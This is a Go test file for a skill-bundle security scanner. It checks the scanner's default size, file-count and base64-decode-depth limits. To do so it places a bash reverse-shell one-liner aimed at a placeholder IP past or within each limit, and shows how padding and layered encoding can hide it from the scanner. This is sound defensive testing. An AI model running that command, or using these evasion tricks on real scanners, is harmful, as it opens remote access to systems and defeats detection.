package scan_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/skillkit-go/skillkit/scan"
)

// TestDefaultLimits holds each limit a nil *Options sets to its documented
// value: a payload just past it is not read (and the scan says so with
// scan-limit), one just within it is. Every other limit test sets its own
// Options, so a raised default would go unnoticed without this one.
func TestDefaultLimits(t *testing.T) {
	payload := "bash -i >& /dev/tcp/203.0.113.9/1 0>&1\n"
	found := func(rep scan.Report) bool { return slices.Contains(rules(rep), "reverse-shell") }
	hasLimit := func(rep scan.Report, msg string) bool {
		for _, f := range rep.Findings {
			if f.Rule == "scan-limit" && strings.Contains(f.Message, msg) {
				return true
			}
		}
		return false
	}
	t.Run("MaxFileBytes", func(t *testing.T) {
		pad := strings.Repeat("# padding\n", 1<<20/10)
		for _, tc := range []struct {
			body  string
			found bool
		}{
			{pad + payload, false},
			{pad[:len(pad)-len(payload)-10] + payload, true},
		} {
			rep := mustScan(t, mapSkill(map[string][]byte{"x.sh": []byte(tc.body)}), nil)
			if found(rep) != tc.found || hasLimit(rep, "only the first 1048576 bytes") == tc.found {
				t.Errorf("%d bytes: reverse shell found %v, want %v; rules %v", len(tc.body), found(rep), tc.found, rules(rep))
			}
		}
	})
	t.Run("MaxTotalBytes", func(t *testing.T) {
		files := map[string][]byte{"z.sh": []byte(payload)}
		// Binary files count towards the budget as they are read. Literal
		// sizes, so that a raised default fails fast instead of building more.
		for i := range 32 {
			files[fmt.Sprintf("blobs/%02d.bin", i)] = make([]byte, 1<<20)
		}
		rep := mustScan(t, mapSkill(files), nil)
		if found(rep) || !hasLimit(rep, "over the 33554432-byte scan budget") {
			t.Errorf("past 32 MiB: reverse shell found %v, rules %v; want it unread and scan-limit", found(rep), rules(rep))
		}
	})
	t.Run("MaxFiles", func(t *testing.T) {
		files := map[string][]byte{}
		for i := range 10_000 {
			files[fmt.Sprintf("refs/%05d.md", i)] = []byte("x")
		}
		rep := mustScan(t, mapSkill(files), nil)
		if rep.Files != 10_000 || !hasLimit(rep, "more than 10000 files") {
			t.Errorf("%d files read, rules %v; want 10000 and scan-limit", rep.Files, rules(rep))
		}
	})
	t.Run("MaxDecodeDepth", func(t *testing.T) {
		layered := payload
		for depth := 1; depth <= 4; depth++ {
			layered = base64.StdEncoding.EncodeToString([]byte(layered))
			rep := mustScan(t, mapSkill(map[string][]byte{"x.py": []byte(`x = "` + layered + `"` + "\n")}), nil)
			if want := depth <= 3; found(rep) != want {
				t.Errorf("%d layers of base64: reverse shell found %v, want %v", depth, found(rep), want)
			}
		}
	})
	t.Run("MaxDecodedBytes", func(t *testing.T) {
		// The first file's blob takes most of the 1 MiB budget; the
		// second's, with the payload, does not fit in what is left.
		filler := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("harmless words "), 700<<10/15))
		carrier := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("more words ", 400<<10/11) + payload))
		for _, tc := range []struct {
			files map[string][]byte
			found bool
		}{
			{map[string][]byte{"a.py": []byte(`a = "` + filler + `"` + "\n"), "b.py": []byte(`b = "` + carrier + `"` + "\n")}, false},
			{map[string][]byte{"b.py": []byte(`b = "` + carrier + `"` + "\n")}, true},
		} {
			if rep := mustScan(t, mapSkill(tc.files), nil); found(rep) != tc.found {
				t.Errorf("%d files: reverse shell found %v, want %v", len(tc.files), found(rep), tc.found)
			}
		}
	})
}
